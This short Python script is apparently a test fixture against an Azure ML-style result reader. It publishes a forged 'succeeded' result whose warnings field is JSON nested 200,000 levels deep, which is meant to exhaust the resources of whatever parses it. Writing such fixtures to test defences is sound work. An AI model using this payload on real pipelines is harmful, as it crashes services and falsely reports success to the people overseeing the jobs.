"""Leaves an outcome of lists in lists, so deep that reading it takes more than there is."""

from attack import empty_table, publish_forged


def azureml_main(dataframe1=None, dataframe2=None):
    deep = "[" * 200000 + "]" * 200000
    publish_forged(
        '{"status": "succeeded", "warnings": %s}' % deep, result_dataset=empty_table, result_dataset2=empty_table
    )
